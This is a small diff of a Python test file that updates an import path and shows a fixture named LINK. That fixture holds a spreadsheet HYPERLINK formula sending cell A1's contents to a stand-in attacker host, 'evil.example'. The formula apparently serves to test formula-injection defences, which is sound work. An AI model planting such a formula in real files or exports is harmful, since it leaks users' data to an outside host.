@@ -11,7 +11,7 @@ import httpx
 import redis.asyncio as redis
 from ulid import ULID
 
-from resolvers import sotopia_format as fmt
+from parley.resolvers import sotopia_format as fmt
 from tests.support import sotopia_records as sotopia
 
 LINK = '=HYPERLINK("https://evil.example/?leak="&A1,"open")'
